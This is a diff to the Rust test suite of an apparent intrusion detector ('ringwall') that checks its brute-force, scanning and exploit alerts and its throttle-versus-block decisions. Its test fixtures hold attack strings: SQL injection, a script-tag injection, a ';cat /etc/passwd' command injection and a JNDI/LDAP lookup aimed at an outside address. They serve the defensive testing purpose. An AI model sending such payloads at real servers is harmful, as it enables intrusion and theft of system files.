@@ -236,12 +236,12 @@ fn guesses_at_one_account_are_seen_from_however_many_addresses_and_however_slowl
 
 #[test]
 fn the_alert_names_every_source_that_took_part_and_never_the_account() {
-    let story = row(10, 30.0, |n, at| {
+    let story = row(15, 10.0, |n, at| {
         knock(at, address(n), 401).with(7, n, LoginBy::Json)
     });
     let alerts = told(story);
     let sources: BTreeSet<&str> = alerts.iter().map(|one| one.source.value.as_str()).collect();
-    assert_eq!(sources.len(), 10, "{sources:?}");
+    assert_eq!(sources.len(), 15, "{sources:?}");
     let first = alerts.first().unwrap();
     for source in &sources {
         assert!(
@@ -422,10 +422,106 @@ fn a_page_elsewhere_has_nobody_barred_and_saying_so_is_no_way_out() {
         knock(at, "203.0.113.66", 404).foreign(format!("/word{n}"))
     });
     let alerts = told(scan);
-    assert_eq!(names(&alerts), ["ringwall/http-foreign"].into());
+    assert!(names(&alerts).contains("ringwall/http-foreign"));
     let first = alerts.first().unwrap();
     assert!(first.events_count <= 21, "{}", first.events_count);
-    assert_eq!(first.label("strongest"), "throttle");
+    assert!(
+        alerts
+            .iter()
+            .all(|one| one.label("strongest") == "throttle"),
+        "DENY barred: {:?}",
+        names(&alerts)
+    );
+}
+
+#[test]
+fn one_header_switches_no_rule_off() {
+    let get = |target: String, status: u16| {
+        move |at: f64| knock(at, "203.0.113.66", status).foreign(target.clone())
+    };
+    let post = |target: &str, status: u16| {
+        let mut one = knock(0.0, "203.0.113.66", status).foreign(target);
+        one.method = "POST";
+        move |at: f64| Knock { at, ..one.clone() }
+    };
+    type Story<'s> = (&'s str, Box<dyn Fn(u32, f64) -> Knock + 's>, f64);
+    let stories: [Story<'_>; 8] = [
+        (
+            "SQL, escaped, answered 200",
+            Box::new(|n, at| get(format!("/?id={n}%27%20union%20select%20{n},2--"), 200)(at)),
+            0.5,
+        ),
+        (
+            "script, escaped, answered 302",
+            Box::new(|n, at| get(format!("/?q=%3Cscript%3Ealert({n})%3C/script%3E"), 302)(at)),
+            0.5,
+        ),
+        (
+            "commands, answered 500",
+            Box::new(|n, at| get(format!("/?host=x;cat%20/etc/passwd%20{n}"), 500)(at)),
+            0.5,
+        ),
+        (
+            "crawling",
+            Box::new(|n, at| get(format!("/page/{n}"), 200)(at)),
+            0.05,
+        ),
+        (
+            "random queries",
+            Box::new(|n, at| get(format!("/?x={n}"), 200)(at)),
+            0.01,
+        ),
+        (
+            "one address, xmlrpc",
+            Box::new(|_, at| post("/xmlrpc.php", 200)(at)),
+            1.0,
+        ),
+        (
+            "one address, signin",
+            Box::new(|_, at| post("/signin.php", 302)(at)),
+            1.0,
+        ),
+        (
+            "one address, session",
+            Box::new(|_, at| post("/session", 200)(at)),
+            1.0,
+        ),
+    ];
+    for (what, make, every) in stories {
+        let alerts = told(row(300, every, make));
+        assert!(!alerts.is_empty(), "{what}: nothing counts it");
+        assert!(
+            alerts
+                .iter()
+                .all(|one| one.label("strongest") == "throttle"),
+            "DENY {what} bars whoever visits a page elsewhere: {:?}",
+            names(&alerts)
+        );
+    }
+}
+
+#[test]
+fn links_from_elsewhere_are_no_attack() {
+    // A person comes by links from a search engine; a shop window elsewhere shows our pictures.
+    let mut story = row(60, 20.0, |n, at| {
+        knock(at, "203.0.113.5", 200).foreign(format!("/article/{n}"))
+    });
+    story.extend(row(300, 0.2, |n, at| {
+        knock(at, "203.0.113.6", 200).foreign(format!("/pictures/{n}.jpg"))
+    }));
+    assert_eq!(told(story), [], "DENY");
+}
+
+#[test]
+fn asking_beforehand_whether_it_is_an_exploit_counts_nothing() {
+    let program = live_program();
+    let mut scratch = Scratch::new(program, Seed::new(11));
+    let one = knock(0.0, "203.0.113.5", 404).foreign("/?x=${jndi:ldap://203.0.113.250/a}");
+    assert!(program.is_exploit(&event(0, &one), &mut scratch));
+    assert_eq!(scratch.counted().events, 0);
+    assert_eq!(scratch.counted().filters, 0);
+    program.observe(&event(0, &one), &mut scratch);
+    assert_eq!(scratch.counted().events, 1);
 }
 
 #[test]
@@ -490,4 +586,40 @@ fn refusals_of_what_a_page_elsewhere_had_sent_count_apart() {
         "DENY a visitor"
     );
     assert_eq!(raised(true, 21, "203.0.113.7"), ["ringwall/http-foreign"]);
+}
+
+#[test]
+fn an_equal_first_guess_hides_no_later_one_and_a_made_up_success_empties_nothing() {
+    use LoginBy::{Form, Json};
+    // Every address first sends what all the others sent first, then a guess of its own.
+    let mut story = row(30, 60.0, |n, at| {
+        knock(at, address(n), 401).with(7, 0, Json)
+    });
+    story.extend(row(30, 60.0, |n, at| {
+        knock(at + 30.0, address(n), 401).with(7, n + 1, Json)
+    }));
+    let alerts = told(story.clone());
+    assert!(
+        names(&alerts).contains("ringwall/http-account-bruteforce"),
+        "DENY decoys hide guesses"
+    );
+    // Between them somebody posts the account where any answer is 200.
+    story.extend(row(60, 30.0, |_, at| {
+        let mut one = knock(at + 7.0, "203.0.113.9", 200).with(7, 99, Form);
+        one.target = "/?login".to_owned();
+        one
+    }));
+    let alerts = told(story);
+    assert!(
+        names(&alerts).contains("ringwall/http-account-bruteforce"),
+        "DENY emptied at will"
+    );
+    // A family whose devices share one stale password guesses nothing.
+    let family = row(200, 30.0, |n, at| {
+        knock(at, address(n % 20), 401).with(7, 1, Json)
+    });
+    assert!(
+        !names(&told(family)).contains("ringwall/http-account-bruteforce"),
+        "DENY one password"
+    );
 }
